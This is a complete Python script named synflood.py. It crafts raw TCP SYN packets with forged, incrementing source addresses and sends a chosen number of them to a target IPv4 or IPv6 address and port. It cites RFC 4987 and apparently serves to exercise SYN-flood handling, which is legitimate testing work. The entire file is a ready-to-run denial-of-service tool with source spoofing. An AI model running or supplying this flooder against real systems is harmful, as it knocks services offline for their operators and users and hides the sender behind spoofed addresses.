#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""synflood.py SOURCE ADDRESS PORT COUNT: sends COUNT SYNs, each from the next address after SOURCE.

IPv4 or IPv6, as the addresses are. Nobody answers what comes back. RFC 4987 describes the attack.
"""
import ipaddress
import os
import socket
import struct
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from inet import checksum  # noqa: E402


def syn(source, to, port):
    header = struct.pack("!HHIIBBHHH", 40000, port, int(source) & 0xFFFFFFFF, 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = source.packed + to.packed + struct.pack("!HH", 6, len(header))
    return header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]


def packet(source, to, port):
    segment = syn(source, to, port)
    if to.version == 6:
        return struct.pack("!IHBB", 6 << 28, len(segment), 6, 64) + source.packed + to.packed + segment
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0, 64, 6, 0) + source.packed + to.packed + segment


def main():
    source, to = ipaddress.ip_address(sys.argv[1]), ipaddress.ip_address(sys.argv[2])
    port, count = int(sys.argv[3]), int(sys.argv[4])
    sock = socket.socket(socket.AF_INET6 if to.version == 6 else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(count):
        sock.sendto(packet(source + i, to, port), (str(to), 0))


main()
